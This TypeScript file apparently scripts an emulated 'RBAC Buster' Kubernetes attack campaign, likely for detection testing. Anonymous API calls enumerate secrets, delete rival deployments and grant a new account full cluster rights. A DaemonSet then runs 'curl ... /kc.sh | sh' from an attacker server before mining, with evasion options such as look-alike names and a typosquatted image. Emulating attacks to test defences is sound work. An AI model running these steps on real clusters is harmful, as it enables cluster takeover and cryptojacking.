import { ALL_RIGHTS, bindCluster, createAccount, createClusterRole, denied, list, remove } from './calls.ts'
import { ANONYMOUS, api, type Campaign, deploy } from './campaign.ts'
import { mine } from './miner.ts'

export const RBAC_BUSTER: Campaign = {
  id: 'rbac-buster',
  title: 'RBAC Buster: anonymous takeover with a look-alike controller',
  source: 'Aqua Nautilus, 2023',
  victim: 'go',
  evasions: ['plain-names', 'patch', 'own-group'],
  unseen: ['6: decoy keys used (CloudTrail)'],
  rows: (attack) => {
    const { evades, server } = attack
    const plain = evades('plain-names')
    const name = plain ? `metrics-${attack.random.fork('n').suffix(4)}` : `kube-controller${attack.nth}`
    const binding = plain ? `${name}-view` : `system:controller:${name}`
    const namespace = plain ? 'monitoring' : 'kube-system'
    const shell = `curl -s http://${server}/kc.sh | sh`
    return [
      ['0:00', 1, api(ANONYMOUS, { verb: 'get', path: '/version' }, { verb: 'get', path: '/api' }, list('namespaces'))],
      ['0:20', 2, api(ANONYMOUS, list('pods'), list('secrets'), list('serviceaccounts'), denied(list('nodes')))],
      [
        '0:50',
        3,
        api(
          ANONYMOUS,
          list('deployments', undefined, 'apps'),
          remove('deployments', 'default', 'kube-secure-fhgxtsjh', 'apps'),
          remove('deployments', 'default', 'api-proxy', 'apps')
        )
      ],
      ['1:40', 4, api(ANONYMOUS, createAccount(namespace, name))],
      ['1:48', 4, api(ANONYMOUS, createClusterRole(binding, ALL_RIGHTS))],
      ['1:56', 4, api(ANONYMOUS, bindCluster(binding, binding, namespace, name, evades('patch') ? 'patch' : 'create'))],
      [
        '2:30',
        5,
        deploy(ANONYMOUS, 'ds', {
          kind: 'DaemonSet',
          namespace,
          name,
          pods: 3,
          template: {
            labels: { app: name },
            serviceAccount: 'default',
            containers: [
              {
                name,
                image: plain ? 'docker.io/alpine:3.20' : 'kuberntesio/kube-controller:1.0.1',
                command: ['/bin/sh', '-c', shell],
                process: { binary: '/bin/sh', args: ['-c', shell] }
              }
            ]
          }
        })
      ],
      ...mine(attack, '3:00', 5, 'ds')
    ]
  }
}
